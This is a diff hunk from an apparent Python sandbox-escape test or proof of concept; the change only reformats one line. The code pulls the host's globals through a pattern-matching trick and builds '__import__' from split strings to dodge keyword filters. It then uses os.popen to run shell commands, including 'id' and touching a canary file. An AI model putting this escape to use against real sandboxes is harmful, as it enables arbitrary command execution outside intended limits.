@@ -26,5 +26,9 @@ Spoof.register(type(target))
 match target:
     case Spoof(host_globals):
         builtins_ns = host_globals["__builtins__"]
-        importer = builtins_ns["__import__"] if isinstance(builtins_ns, dict) else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
+        importer = (
+            builtins_ns["__import__"]
+            if isinstance(builtins_ns, dict)
+            else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
+        )
         print(importer("os").popen("id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran").read())
